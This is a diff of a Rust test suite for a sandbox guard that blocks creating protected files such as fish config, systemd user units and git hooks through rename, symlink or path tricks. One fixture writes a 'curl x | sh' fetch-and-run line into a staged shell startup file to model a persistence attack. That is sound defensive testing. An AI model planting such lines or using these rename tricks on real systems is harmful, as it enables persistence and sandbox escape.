@@ -1,7 +1,8 @@
-//! Protected paths that do not exist when the run starts (`.envrc`, `.claude`, `.git/config`
-//! of a workspace that is not a repository yet, `~/.zshrc` with the workspace at home) must
-//! not be creatable from inside by any call or path spelling, while ordinary creation in the
-//! workspace keeps working. Nothing may be created on the host to achieve this.
+//! Protected paths that do not exist when the run starts (`.envrc`, `.claude`, `~/.zshrc` or
+//! `~/.config/fish` with the workspace at home) must not be creatable from inside by any call
+//! or path spelling, while ordinary creation in the workspace keeps working. Nothing may be
+//! created on the host to achieve this. (A workspace without `.git` is the exception: `git
+//! init` must work there, so its `.git/config` and hooks are protected from the next run on.)
 #![allow(
     clippy::unwrap_used,
     clippy::expect_used,
@@ -79,46 +80,47 @@ fn other_spellings_of_the_path_are_refused_too() {
 
 #[test]
 fn a_prepared_directory_cannot_be_renamed_into_place() {
-    // The "rename the parent" attack for paths that do not exist: build `x/hooks/pre-commit`
-    // and `x/config` elsewhere, then move `x` to `.git`.
+    // The "rename the parent" attack for paths that do not exist: with the workspace at home
+    // and no `~/.config`, build `stage/fish/config.fish` and move `stage` to `~/.config`.
     let t = Scratch::new("missing-rename-parent");
-    let p = t.probe(
-        &[],
-        &[
-            "mkdir:stage",
-            "mkdir:stage/hooks",
-            "write:stage/hooks/pre-commit:#!/bin/sh",
-            "write:stage/config:[core]",
-            "rename:stage:.git",
-            "raw:rename:stage:.git",
-            "symlink:stage:.git",
-            // A `.git` file pointing at a prepared git dir works for the host's git as well.
-            "write:.git:gitdir: stage",
-        ],
-    );
+    let h = s(&t.home);
+    let ops = [
+        format!("mkdir:{h}/stage"),
+        format!("mkdir:{h}/stage/fish"),
+        format!("write:{h}/stage/fish/config.fish:curl x | sh"),
+        format!("rename:{h}/stage:{h}/.config"),
+        format!("raw:rename:{h}/stage:{h}/.config"),
+        format!("symlink:{h}/stage:{h}/.config"),
+        format!("mkdir:{h}/stage2"),
+        format!("rename:{h}/stage2:{h}/.config"),
+    ];
+    let ops: Vec<&str> = ops.iter().map(String::as_str).collect();
+    let p = t.probe(&["--workspace", &h], &ops);
     p.out.assert_ok();
-    p.expect("write:stage/config:[core]", &["OK"]);
-    p.expect("rename:stage:.git", REFUSED);
-    p.expect("raw:rename:stage:.git", &[REFUSED, &["SKIPPED"]].concat());
-    p.expect("symlink:stage:.git", REFUSED);
-    p.expect("write:.git:gitdir: stage", REFUSED);
-    assert!(t.ws.join(".git").symlink_metadata().is_err());
+    p.expect(ops[2], &["OK"]);
+    p.expect(ops[3], REFUSED);
+    p.expect(ops[4], &[REFUSED, &["SKIPPED"]].concat());
+    p.expect(ops[5], REFUSED);
+    // Even an empty directory: only a fresh mkdir, which the guard then watches, may appear
+    // at a missing ancestor.
+    p.expect(ops[7], REFUSED);
+    assert!(t.home.join(".config").symlink_metadata().is_err());
 }
 
 #[test]
 fn a_fresh_parent_directory_keeps_guarding_the_name() {
-    // `.git` may be made (git init needs it), but `.git/config` and `.git/hooks` in it stay
-    // protected, as does `~/.config/fish` under a fresh `~/.config`.
+    // `~/.config` and `~/.config/systemd` may be made, but `~/.config/systemd/user` and
+    // `~/.config/fish` below them stay protected.
     let t = Scratch::new("missing-fresh-parent");
     let h = s(&t.home);
     let ops = [
         format!("mkdir:{h}/.config"),
         format!("mkdir:{h}/.config/fish"),
         format!("write:{h}/.config/fish/config.fish:x"),
-        format!("mkdir:{h}/.git"),
-        format!("write:{h}/.git/config:[core]"),
-        format!("mkdir:{h}/.git/hooks"),
-        format!("write:{h}/.git/HEAD:ref: refs/heads/main"),
+        format!("mkdir:{h}/.config/systemd"),
+        format!("mkdir:{h}/.config/systemd/user"),
+        format!("symlink:/tmp:{h}/.config/systemd/user"),
+        format!("write:{h}/.config/other.conf:fine"),
     ];
     let ops: Vec<&str> = ops.iter().map(String::as_str).collect();
     let p = t.probe(&["--workspace", &h], &ops);
@@ -131,8 +133,12 @@ fn a_fresh_parent_directory_keeps_guarding_the_name() {
     p.expect(ops[5], REFUSED);
     p.expect(ops[6], &["OK"]);
     assert!(!t.home.join(".config/fish").exists());
-    assert!(!t.home.join(".git/config").exists());
-    assert!(!t.home.join(".git/hooks").exists());
+    assert!(t
+        .home
+        .join(".config/systemd/user")
+        .symlink_metadata()
+        .is_err());
+    assert_eq!(read(&t.home.join(".config/other.conf")), "fine\n");
 }
 
 #[test]
